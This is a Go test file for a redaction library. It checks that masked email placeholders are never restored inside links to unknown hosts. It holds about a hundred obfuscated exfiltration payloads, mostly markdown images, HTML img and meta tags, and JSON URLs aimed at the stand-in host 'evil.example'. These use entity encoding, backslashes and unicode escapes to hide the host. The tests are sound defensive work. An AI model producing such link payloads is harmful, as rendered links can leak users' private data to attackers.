package placeholder_test

import (
	"encoding/json"
	"math/rand"
	"strings"
	"testing"

	"github.com/krakend-redact/krakend-redact/internal/placeholder"
)

// No value gets into a link to a stranger.
func TestLinksToStrangers(t *testing.T) {
	for _, text := range []string{
		// The authority.
		"https://" + strings.Repeat("a", 300-len("@known.example")) + "@known.example.evil.example/?d=[EMAIL_1]",
		"https://" + strings.Repeat("a", 286) + "@known.example/?d=[EMAIL_1]",
		"https://[EMAIL_1]" + strings.Repeat("a", 280) + "@known.example.evil.example/",
		"https://[EMAIL_1]" + strings.Repeat("a", 500) + "@known.example",
		`![x](https://known.example\@evil.example/?d=[EMAIL_1])`,
		`![x](https://known.example\.evil.example/?d=[EMAIL_1])`,
		`![x](https://known.example\-evil.example/?d=[EMAIL_1])`,
		`![x](https://[EMAIL_1]@known.example\.evil.example/)`,
		`{"url":"https://known.example\t.evil.example/[EMAIL_1]"}`,
		`{"url":"https://known.example\\.evil.example/[EMAIL_1]"}`,
		`{"url":"https://known.example\u002eevil.example/[EMAIL_1]"}`,
		`{"url":"https://evil.example\u0040known.example/[EMAIL_1]"}`,
		"https://known.example&period;evil.example/[EMAIL_1]",
		"https://known.example&#46evil.example/[EMAIL_1]",
		"https://evil.example&sol;@known.example/[EMAIL_1]",
		"https://known.example&sol;@evil.example/[EMAIL_1]",
		"https://known.example&colon;x.evil.example/[EMAIL_1]",
		"https://known.example:x.evil.example/[EMAIL_1]",
		"<a href=\"https://known.example\n.evil.example/?[EMAIL_1]\">",
		"<a href=\"https://known.example&Tab;.evil.example/?[EMAIL_1]\">",
		// Links in links.
		`"https://known.example/ ![x](https://evil.example/?d=[EMAIL_1])"`, `"//? ![x](https://evil.example/?d=[EMAIL_1])"`,
		`https://known.example/![x](https://evil.example/?d=[EMAIL_1])`, `[a]:https://known.example/![x](https://evil.example/?d=[EMAIL_1])`,
		`"https://known.example/ https://known.example&sol;.evil.example/?d=[EMAIL_1]"`, `https://known.example&#47https:evil.example/[EMAIL_1]`,
		`(https://known.example/"https://evil.example/? d=[EMAIL_1]"`, "https://known.example/" + strings.Repeat("https://known.example/", 9) + "https://evil.example/?d=[EMAIL_1]",
		`{"a":"\\\\#\nhttps:evil.example/[EMAIL_1]"}`,
		// Quotes.
		`url("https://evil.example/?` + strings.Repeat("a", 5000) + `[EMAIL_1]")`,
		`url("https://evil.example/?` + strings.Repeat("a", 5000) + ` [EMAIL_1]")`,
		`{"u": "https://evil.example/?` + strings.Repeat("a", 5000) + ` [EMAIL_1]"}`,
		`"https://evil.example/?` + strings.Repeat("a", 5000) + `[EMAIL_1]"`,
		`<meta http-equiv=refresh content="0; \\evil.example/ [EMAIL_1]">`,
		`<img srcset="a.png 1x,\\evil.example/ [EMAIL_1]">`,
		`{"a":"<img src=\u0022https:evil.example/ [EMAIL_1]\u0022>"}`,
		`{"a":"<img src=\u0022\/\u005cevil.example/[EMAIL_1]\u0022>"}`,
		"<img src=\"https://evil.example/?a\n=[EMAIL_1]\">",
		"<img src=\"https://evil.example/?a\n\n=[EMAIL_1]\">",
		"<img src=\"https://[EMAIL_1]\n.evil.example/\">",
		`<img src='https://evil.example/?"d=[EMAIL_1]'>`,
		`<img src="https://evil.example/?'d=[EMAIL_1]">`,
		`<img src="https://evil.example/?<d=[EMAIL_1]">`,
		`<img src="https://evil.example/?>d=[EMAIL_1]">`,
		"<img src=\"https://evil.example/?`d=[EMAIL_1]\">",
		`<img src=" https://evil.example/? d=[EMAIL_1]">`,
		`<img src = "https://evil.example/? d=[EMAIL_1]">`,
		"<img src=\n\"\n https://evil.example/? d=[EMAIL_1]\">",
		`<img alt="a b" src="https://evil.example/? d=[EMAIL_1]">`,
		`say "x =" <img src="https://evil.example/? d=[EMAIL_1]">`,
		`He said "hello," and "https://evil.example/? d=[EMAIL_1]"`,
		`<img src="h&#116;tps://evil.example/? d=[EMAIL_1]">`,
		`<img src="&#104;ttps://evil.example/? d=[EMAIL_1]">`,
		`<meta http-equiv=refresh content="0;url=https://evil.example/? d=[EMAIL_1]">`,
		`<img src=https://evil.example/?"d=[EMAIL_1]>`,
		`<img src=https://evil.example/?<d=[EMAIL_1]>`,
		`{"html":"<img src=\"https://evil.example/? d=[EMAIL_1]\">"}`,
		`{"html":"<img src= \"https://evil.example/? d=[EMAIL_1]\">"}`,
		`{"url":"https://evil.example/?\"d=[EMAIL_1]"}`,
		`{"a":"say \"hi\" then", "url":"https://evil.example/? d=[EMAIL_1]"}`,
		`{"url":"https://evil.example/? d=[EMAIL_1]"}`,
		// Markdown.
		`![x](https://evil.example/?"d=[EMAIL_1])`,
		"![x](https://evil.example/?`d=[EMAIL_1])",
		`![x](https://evil.example/?a>d=[EMAIL_1])`,
		`![x](https://evil.example/?a<d=[EMAIL_1])`,
		`![x](https://evil.example/?\)d=[EMAIL_1])`,
		`![x](https://evil.example/?(a)d=[EMAIL_1])`,
		`![x](https://evil.example/?'d=[EMAIL_1])`,
		`<https://evil.example/?"d=[EMAIL_1]>`,
		`![x](<https://evil.example/? d=[EMAIL_1]>)`,
		`[x]: https://evil.example/?<"d=[EMAIL_1]`,
		// Openings.
		`![x](/\/evil.example/?d=[EMAIL_1])`,
		`![x](\/\/evil.example/?d=[EMAIL_1])`,
		`![x](\\\\evil.example/?d=[EMAIL_1])`,
		`<img src="\\evil.example/?d=[EMAIL_1]">`,
		`<img src="/\evil.example/?d=[EMAIL_1]">`,
		`<img src="\/evil.example/?d=[EMAIL_1]">`,
		`![x](&sol;&sol;evil.example/?d=[EMAIL_1])`,
		`![x](&#47;&#47;evil.example/?d=[EMAIL_1])`,
		`![x](&#x2F;&#0047;evil.example/?d=[EMAIL_1])`,
		`<img src="&#47&#47evil.example/?d=[EMAIL_1]">`,
		`![x](https&colon;&sol;&sol;evil.example/?d=[EMAIL_1])`,
		`![x](https&colon;evil.example/?d=[EMAIL_1])`,
		"<img src=\"/\t/evil.example/?d=[EMAIL_1]\">",
		"<img src=\"/&Tab;/evil.example/?d=[EMAIL_1]\">",
		"<img src=\"ht\ttps:/evil.example/?d=[EMAIL_1]\">",
		"<img src=\"ht\r\ntps:evil.example/?d=[EMAIL_1]\">",
		"ftp:/evil.example/[EMAIL_1]",
		"ftp:evil.example/[EMAIL_1]",
		"wss:evil.example/[EMAIL_1]",
		"WS:evil.example/[EMAIL_1]",
		`https\://evil.example/[EMAIL_1]`,
		`app:/evil.example/[EMAIL_1]`,
		`{"url":"\u002f\u002fevil.example/[EMAIL_1]"}`,
		`{"url":"\\u002f\\u002Fevil.example/[EMAIL_1]"}`,
		`{"url":"https\u003a\u002f\u002fevil.example/[EMAIL_1]"}`,
		`{"url":"https\u003aevil.example/[EMAIL_1]"}`,
		`{"url":"\u0068ttps:evil.example/[EMAIL_1]"}`,
		`{"url":"ht\ntps:evil.example/?d=[EMAIL_1]"}`, `{"url":"/\t/evil.example/?d=[EMAIL_1]"}`, `{"url":"\thttps://evil.example/? d=[EMAIL_1]"}`,
		`(www.evil.example/[EMAIL_1])`, "-www.evil.example/[EMAIL_1]", "\"see\nwww.evil.example/[EMAIL_1]\"",
	} {
		for _, m := range []placeholder.Mode{placeholder.Text, placeholder.JSON} {
			if got := whole(lane(placeholder.Tolerant, placeholder.Links{}, m), text); got != text {
				t.Errorf("mode %d: %q became\n%q", m, text, got)
			}
			if len(text) < 1000 {
				checkSplits(t, m, text)
			}
		}
	}
}

// Values stay usable outside of links, and in those of the caller.
func TestLinksThatAreNone(t *testing.T) {
	for _, text := range []string{
		`He said "https://x.example is nice" and [EMAIL_1]`,
		`He said "see https://x.example for it: [EMAIL_1]"`, `He said "see (https://x.example) for it: [EMAIL_1]"`,
		"\"https://x.example is never closed\n\n[EMAIL_1]",
		`"https://x.example ` + strings.Repeat("x ", 2048) + "[EMAIL_1]",
		`<a href="https://x.example/a b">[EMAIL_1]</a>`,
		`<a href='https://x.example/"'>[EMAIL_1]</a>`,
		`[x](https://x.example/a(b)c)[EMAIL_1]`,
		`[x](https://x.example "[EMAIL_1]")`,
		`<https://x.example/>[EMAIL_1]`,
		"// a comment: [EMAIL_1]", "//\t[EMAIL_1]", "/* [EMAIL_1] */", "either/or [EMAIL_1]", "either/or/[EMAIL_1]",
		"mailto:[EMAIL_1]", "tel:[EMAIL_1]", `C:\Users\[EMAIL_1]x`, `"C:\\Users\\[EMAIL_1]x"`, `{"path":"C:\\Users\\[EMAIL_1]x"}`,
		"http: [EMAIL_1]", "note: [EMAIL_1], R&D [EMAIL_1]", `{"a":"\\[EMAIL_1]\\"}`, `\\[EMAIL_1], x`,
		"draws:[EMAIL_1]x", "awww.x/[EMAIL_1]", "it's at https://x.example, isn't it, [EMAIL_1]",
		"https://known.example/https://known.example/[EMAIL_1]", `<a href="https://known.example/?u=https://x.example/a">[EMAIL_1]</a>`,
		"https://known.example/[EMAIL_1]", `https:\/\/known.example\/[EMAIL_1]`, "https&colon;&sol;&sol;known.example/[EMAIL_1]",
		`{"url":"https\u003a\u002f\u002fknown.example\u002f[EMAIL_1]"}`, `https://known.example:8443?[EMAIL_1]`,
		"<img src=\"ht\ttps://known.\nexample/[EMAIL_1]\">",
	} {
		want := strings.ReplaceAll(text, "[EMAIL_1]", "ann@x.io")
		for _, m := range []placeholder.Mode{placeholder.Text, placeholder.Detected} {
			if got := whole(lane(placeholder.Tolerant, placeholder.Links{}, m), text); got != want {
				t.Errorf("%q became\n%q", text, got)
			}
			if len(text) < 1000 {
				checkSplits(t, m, text)
			}
		}
	}
}

// What the caller wrote is restored, however odd.
func TestLinksOfTheCaller(t *testing.T) {
	for _, link := range []string{
		`https://mine.example\@other.example/`, "`https://mine.example/` ", `(https://mine.example/)`, "https://mine.example&sol;x/", `https:\\mine.example\new\`,
		"//mine.example/", "https://mine.example:x/", `"https://mine.example/ a"`,
	} {
		v := placeholder.NewVault()
		v.Reserve(placeholder.NewReader([]placeholder.Stem{email}), link+"ann@x.io")
		v.Issue(email, "ann@x.io", true, false)
		r := placeholder.NewRestorer(v, placeholder.Tolerant, placeholder.Links{}, budget)
		if got := whole(r.NewLane(placeholder.Text), link+"[EMAIL_1]"); got != link+"ann@x.io" {
			t.Errorf("%q: %q", link, got)
		}
	}
	for _, text := range []string{"see https://mine.example, or", "`https://mine.example`", "(https://mine.example).", "**https://mine.example**", `"https://mine.example"`} {
		v := placeholder.NewVault()
		v.Reserve(placeholder.NewReader([]placeholder.Stem{email}), text)
		v.Issue(email, "ann@x.io", true, false)
		r := placeholder.NewRestorer(v, placeholder.Tolerant, placeholder.Links{}, budget)
		if got := whole(r.NewLane(placeholder.Text), "https://mine.example/[EMAIL_1]"); got != "https://mine.example/ann@x.io" {
			t.Errorf("%q: %q", text, got)
		}
	}
}

// In arguments each string is a text of its own, as its reader gets it.
func TestLinksInArguments(t *testing.T) {
	const value = "ann@x.io"
	for _, text := range []string{
		`{"a":"see, https://x.example/a,","b":"[EMAIL_1]"}`, `{"a":"see https://x.example","b":"[EMAIL_1]"}`,
		`{"a":"hello, ","u":"see https://x.example/a","b":"[EMAIL_1]"}`, `{"u":"see https:\/\/x.example\/a\/b","b":"[EMAIL_1]"}`,
		`["see https://x.example","[EMAIL_1]"]`, `{"https://x.example/ ":"[EMAIL_1]"}`, `{"a":"say \"hi, see https://x.example","b":"[EMAIL_1]"}`,
		`{"path":"\/home\/[EMAIL_1]"}`, `{"url":"https:\/\/known.example\/[EMAIL_1]"}`, `{"html":"<\/b>[EMAIL_1]<\/p>"}`,
		`{"body":"{\"p\":\"\\\/home\\\/[EMAIL_1]\"}"}`, `{"url":"go to https:\/\/known.example\/?[EMAIL_1]"}`,
	} {
		if got, want := whole(lane(placeholder.Tolerant, placeholder.Links{}, placeholder.JSON), text), strings.ReplaceAll(text, "[EMAIL_1]", value); got != want {
			t.Errorf("%s became\n%s", text, got)
		}
		checkSplits(t, placeholder.JSON, text)
	}
	for _, text := range []string{
		`{"url":"https:\/\/stranger.example\/[EMAIL_1]"}`, `{"url":"\/\/stranger.example\/[EMAIL_1]"}`, `{"url":"\/\\stranger.example\/[EMAIL_1]"}`,
		`{"url":"https:\/\/known.example\\.stranger.example\/[EMAIL_1]"}`, `{"html":"<img src=\"\/\/stranger.example\/? d=[EMAIL_1]\">"}`,
		`{"html":"![x](https:\/\/stranger.example\/?\"d=[EMAIL_1]"}`, `{"url":"\u0026#47;\u0026sol;stranger.example/[EMAIL_1]"}`,
	} {
		if got := whole(lane(placeholder.Tolerant, placeholder.Links{}, placeholder.JSON), text); got != text {
			t.Errorf("%s became\n%s", text, got)
		}
	}
	rnd := rand.New(rand.NewSource(6))
	restored := 0
	for i := 0; i < 20_000; i++ {
		doc := map[string]string{"z": "[EMAIL_1]"}
		for _, name := range []string{"a", "b"} {
			text := ""
			for n := rnd.Intn(7); n > 0; n-- {
				text += append(linkPieces, "[EMAIL_1]")[rnd.Intn(len(linkPieces)+1)]
			}
			doc[name] = strings.ReplaceAll(text, `"`, "") // its own quotes are other quotes
		}
		args, err := json.Marshal(doc)
		if err != nil {
			t.Fatal(err)
		}
		if i%2 == 0 {
			args = []byte(strings.ReplaceAll(string(args), "/", `\/`))
		}
		var got map[string]string
		if err := json.Unmarshal([]byte(whole(lane(placeholder.Strict, placeholder.Links{}, placeholder.JSON), string(args))), &got); err != nil {
			t.Fatal(err)
		}
		if got["z"] != value {
			t.Fatalf("%s: the last one stays masked", args)
		}
		for name := range doc {
			n, most := strings.Count(got[name], value), strings.Count(whole(lane(placeholder.Strict, placeholder.Links{}, placeholder.Text), doc[name]), value)
			if restored += n; n > most {
				t.Fatalf("%s becomes %q, more than its reader would let in", args, got[name])
			}
		}
	}
	if restored < 21_000 {
		t.Errorf("only %d were restored", restored)
	}
}

// Of several values in one host, all are looked at before the first.
func TestSeveralValuesInOneHost(t *testing.T) {
	for _, tt := range []struct{ host, masked string }{
		{"ann@x.io", "[A_1]@[B_1]"}, {"ann.x.io", "[A_1].[B_1]"}, {"ann:pw@x.io:80", "[A_1]:pw@[B_1]:80"}, {"x.io.x.io", "[B_1].[B_1]"}, {"annx.io", "[A_1][B_1]"},
	} {
		for _, known := range []bool{true, false} {
			v := placeholder.NewVault()
			a, b := placeholder.NewStem("[A]"), placeholder.NewStem("[B]")
			if known {
				v.Reserve(placeholder.NewReader([]placeholder.Stem{a, b}), "https://"+tt.host+"/")
			}
			v.Issue(a, "ann", true, false)
			v.Issue(b, "x.io", true, false)
			text, want := "https://"+tt.masked+"/?[A_1]", "https://"+tt.host+"/?ann"
			if !known {
				want = text
			}
			r := placeholder.NewRestorer(v, placeholder.Tolerant, placeholder.Links{}, budget)
			if got := whole(r.NewLane(placeholder.Text), text); got != want {
				t.Errorf("%s, known: %v: got %s, want %s", text, known, got, want)
			}
			cut, got := r.NewLane(placeholder.Text), ""
			for i := range []byte(text) {
				got += join(cut.Push(text[i : i+1]))
			}
			if got += join(cut.Flush()); got != want {
				t.Errorf("%s, known: %v: streamed got %s, want %s", text, known, got, want)
			}
		}
	}
	// A value that there is no room for must not leave the others in a stranger's host.
	v := placeholder.NewVault()
	a, b := placeholder.NewStem("[A]"), placeholder.NewStem("B")
	v.Reserve(placeholder.NewReader([]placeholder.Stem{a, b}), "https://ann.x.io/")
	v.Issue(a, "ann", true, false)
	v.Issue(b, "x.io", true, false)
	r := placeholder.NewRestorer(v, placeholder.Tolerant, placeholder.Links{}, 5)
	if got, want := whole(r.NewLane(placeholder.Text), "https://[A_1].B_1/"), "https://[A_1].B_1/"; got != want {
		t.Errorf("got %s, want %s", got, want)
	}
}

// However hostile a text is, each of its bytes is looked at so many times and no
// more: how often does not depend on how long the text is, or how it is cut.
func TestLinksTakeLinearTime(t *testing.T) {
	for _, part := range []string{
		`\`, "/", "&", "&#", "http:", `"`, "(", "a", "https://a\\.", "\\u00", "https://[EMAIL_1]", "https://", "[EMAIL_1]",
		"//[EMAIL_1", "https://a[EMAIL_1].", "https://known.example/", "[EMAIL_1].", "[EMAIL_",
	} {
		for _, pieces := range []int{1 << 20, 1} {
			looks := func(size int) float64 {
				text := "https://" + strings.Repeat(part, size/len(part))
				l := lane(placeholder.Tolerant, placeholder.Links{}, placeholder.Text)
				return float64(placeholder.CountLooks(func() {
					for at := 0; at < len(text); at += pieces {
						l.Push(text[at:min(at+pieces, len(text))])
					}
					l.Flush()
				}))
			}
			// The beginning may cost more, up to what bounds a host.
			few, many := looks(1<<13), looks(1<<15)
			if many > 5*few+1000 {
				t.Errorf("%q in pieces of %d: %.0f looks for 8 KiB, %.0f for 32 KiB", part, pieces, few, many)
			}
		}
	}
}

var linkPieces = []string{
	"https:", "//", "/", `\`, `\\`, "http://", "mine.example", ".", "@", "?", "#", ":", "80", "www.", "&sol;", "&#4", "&#47", ";", "&", `\u002f`, `\u002e`, "u", "n",
	"\"", "'", "`", "(", ")", "](", "]:", "<", ">", " ", "\n", "\t", "=", "a", "é", "x=\"", "ws:", "{",
}

// What the caller wrote comes back, whole and streamed, wherever links begin
// and end in it.
func TestLinksRoundTrip(t *testing.T) {
	rnd := rand.New(rand.NewSource(5))
	for i := 0; i < 30_000; i++ {
		var b strings.Builder
		for n := 1 + rnd.Intn(9); n > 0; n-- {
			b.WriteString(linkPieces[rnd.Intn(len(linkPieces))])
		}
		b.WriteString("ann@x.io")
		text := b.String()
		if rnd.Intn(2) == 0 {
			text += linkPieces[rnd.Intn(len(linkPieces))]
		}
		if rnd.Intn(4) == 0 {
			text += "ann@x.io" + linkPieces[rnd.Intn(len(linkPieces))]
		}
		masked := strings.ReplaceAll(text, "ann@x.io", "[EMAIL_1]")
		v := placeholder.NewVault()
		if i%2 == 0 {
			v.Reserve(placeholder.NewReader([]placeholder.Stem{email}), text)
		}
		v.Issue(email, "ann@x.io", true, false)
		r := placeholder.NewRestorer(v, placeholder.Strict, placeholder.Links{}, budget)
		want := whole(r.NewLane(placeholder.Text), masked)
		if i%2 == 0 && want != text {
			t.Fatalf("%q came back as %q", text, want)
		}
		cut, got := r.NewLane(placeholder.Text), ""
		for at := range []byte(masked) {
			got += join(cut.Push(masked[at : at+1]))
		}
		if got += join(cut.Flush()); got != want {
			t.Fatalf("%q streamed gives %q, whole %q", masked, got, want)
		}
	}
}
